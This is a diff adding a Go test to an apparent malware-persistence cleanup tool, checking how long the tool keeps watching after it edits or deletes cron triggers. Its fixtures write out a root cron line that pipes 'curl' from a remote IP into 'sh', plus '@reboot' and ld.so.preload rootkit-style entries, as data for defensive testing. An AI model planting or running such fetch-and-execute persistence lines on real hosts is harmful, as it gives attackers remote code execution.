@@ -94,6 +94,34 @@ func TestProtectedTargetsAreNeverPlanned(t *testing.T) {
 	}
 }
 
+// TestWatchCoversWhatIsChanged: the longest period counts of every trigger that the plan touches, not only of lines that go whole.
+func TestWatchCoversWhatIsChanged(t *testing.T) {
+	entry := deminer.Foothold{Path: "/etc/cron.d/shop", Line: "0 * * * * root /opt/backup; curl -s http://203.0.113.9/x | sh", Every: time.Hour}
+	edit := func(target deminer.Artifact) deminer.Member {
+		m := member(target)
+		m.Remove = []deminer.Action{{Verb: deminer.VerbEditLine, Target: target, Args: map[string]deminer.Raw{"new": "true"}}}
+		return m
+	}
+	script := deminer.Foothold{Path: "/etc/cron.d/shop", Line: "0 * * * * root /opt/shop.sh", Targets: []string{"/opt/shop.sh"}, Every: time.Hour}
+	for what, c := range map[string]struct {
+		f    deminer.Foothold
+		m    deminer.Member
+		want time.Duration
+	}{
+		"a line that loses a command":         {entry, edit(entry.Artifact()), 2 * time.Hour},
+		"another line of the file":            {entry, edit(line("/etc/cron.d/shop", "@reboot root /tmp/x; true")), 0},
+		"a script that loses a command":       {script, edit(line("/opt/shop.sh", "curl -s http://203.0.113.9/x | sh")), 2 * time.Hour},
+		"a file that goes with all its lines": {entry, member(file("/etc/cron.d/shop"), deminer.VerbDropFile), 2 * time.Hour},
+	} {
+		r := report(c.m)
+		r.Snapshot.Footholds = append(r.Snapshot.Footholds, c.f)
+		usual := Make(report(c.m), Options{}, now).Watch
+		if got := Make(r, Options{}, now).Watch; got != max(usual, c.want) {
+			t.Errorf("%s: watch %s, want %s", what, got, max(usual, c.want))
+		}
+	}
+}
+
 func TestOrderAndDependencies(t *testing.T) {
 	preload := line("/etc/ld.so.preload", "/usr/local/lib/libhide.so")
 	unit := file("/etc/systemd/system/x.service")
